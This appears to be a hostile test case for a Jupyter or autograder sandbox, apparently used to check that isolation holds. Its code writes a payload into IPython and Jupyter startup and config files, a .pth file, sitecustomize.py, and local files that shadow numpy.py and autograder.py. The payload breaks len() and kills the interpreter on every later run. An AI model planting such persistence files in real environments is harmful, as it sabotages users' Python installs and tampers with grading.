# expect: hostile all
# Leaves start-up files wherever a later Python, IPython or Jupyter would run them.

# %% after setup
import os
from pathlib import Path

POISON = "import builtins; builtins.len = lambda x: 0; import os; os._exit(7)\n"
home = Path(os.environ.get("HOME", "/tmp"))
for place in (
    home / ".ipython/profile_default/startup/00-hostile.py",
    home / ".ipython/profile_default/ipython_kernel_config.py",
    home / ".jupyter/jupyter_config.py",
    home / ".config/matplotlib/hostile-left.py",
    home / ".local/lib/python3.11/site-packages/hostile-left.pth",
    Path("/tmp/hostile-left.py"),
    Path("/tmp/sitecustomize.py"),
    Path("/var/tmp/hostile-left.py"),
    Path("/dev/shm/hostile-left.py"),
    Path("sitecustomize.py"),
    Path("autograder.py"),
    Path("numpy.py"),
):
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(POISON)
    except OSError:
        continue
